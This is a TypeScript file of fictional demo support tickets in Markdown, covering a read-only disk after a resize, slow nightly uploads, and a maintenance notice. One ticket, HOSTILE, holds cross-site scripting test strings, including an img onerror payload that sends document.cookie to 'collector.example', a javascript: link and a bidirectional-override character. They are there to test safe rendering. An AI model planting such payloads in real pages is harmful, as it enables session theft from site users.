/** Longer posts of the demo tickets, in Markdown, whose line breaks are shown. All of it is fictional. */

export const READ_ONLY_DISK = `Since the resize **last night**, the second disk of this instance mounts read-only.

We did this, in this order:

1. stopped the instance,
2. resized it from 16 GB to 32 GB,
3. started it again at about 02:10 UTC.

\`\`\`
EXT4-fs error (device sdb): ext4_journal_check_start:84: Detected aborted journal
EXT4-fs (sdb): Remounting filesystem read-only
\`\`\`

The replica is *falling behind*. Is the disk failing, or can we run \`fsck\` on it?`

export const KERNEL_LOG_ANSWER = `Thank you for the details. Nothing on the host points to a failing disk: the journal was cut when the \
instance stopped before its last writes were complete.

Please

- stop the database,
- unmount the disk,
- and run \`e2fsck -f /dev/sdb\`.

> Do **not** run it while the disk is mounted.

If it reports anything but a replayed journal, send us the output before you confirm a repair.`

export const THROUGHPUT = `We copy about **2.4 TB** each night from \`db-replica-2\` to the bucket \`app-logs\` in us-iad-1. Until last \
week, that took four hours. Now it takes nine. Nothing changed on our side.

| night      | hours | mean rate  | errors |
|:-----------|------:|-----------:|-------:|
| Monday     |   4.1 | 163 MB/s   |      0 |
| Tuesday    |   4.0 | 167 MB/s   |      0 |
| Wednesday  |   8.7 |  77 MB/s   |     12 |
| Thursday   |   9.2 |  73 MB/s   |     31 |

## What we tried

- [x] another network path (through \`web-frankfurt-1\`): no change
- [x] fewer and more parallel streams (8, 16, 32, 64): no change
- [x] smaller parts: slower
- [ ] another cluster: not possible, because the readers are in us-iad

## How to reproduce it

\`\`\`sh
time curl -sS -T part-0001.bin "$SIGNED_URL" -o /dev/null -w '%{http_code} %{speed_upload}\\n'
\`\`\`

Most responses are \`200\`. The errors in the table are connections that were reset after 30 to 60 seconds, always within \
the first ten minutes of an hour. We recorded all of them:

\`\`\`
02:03:11 reset after 41 s   part-0007
02:03:58 reset after 38 s   part-0009
02:06:20 reset after 55 s   part-0031
03:01:47 reset after 33 s   part-0188
03:02:02 reset after 44 s   part-0190
03:08:36 reset after 59 s   part-0241
04:00:51 reset after 31 s   part-0377
04:04:15 reset after 47 s   part-0395
\`\`\`

Our measurements are at <https://docs.larkspur.example/nightly-copy>. In short, the *first byte* of each \
response still arrives after 20 ms, and only the transfer itself is slow. ~~We suspect our firewall.~~ We have ruled out our firewall.

### Questions

1. Did anything change in the cluster on Tuesday night?
2. Did we reach a limit of our account?
3. Would it help to spread the copy over the whole day?

We’re happy to run any test you suggest. Ines is available from 06:00 to 14:00 UTC, Tomasz after that.`

export const HOSTILE = `Somebody entered this in the comment field of our shop. The attached log contains it:

<script>alert(document.domain)</script>
<img src=x onerror="fetch('https://collector.example/' + document.cookie)">

[click here](javascript:alert(1)) and ![a picture](https://collector.example/pixel.gif)

The order number is \u202E0001-2026\u202C, which reads backwards in some programs.

We filter it on our pages. We only want to know **whether your tools show it as text**.`

export const MAINTENANCE = `On Sunday from 04:00 to 06:00 UTC we’re replacing network equipment in **us-iad**.

- Instances keep running.
- Connections might be interrupted once, for *up to two minutes*.
- Object storage in us-iad-1 is available but slower than usual.

You don’t need to do anything. We’ll reply here when the work is done.`
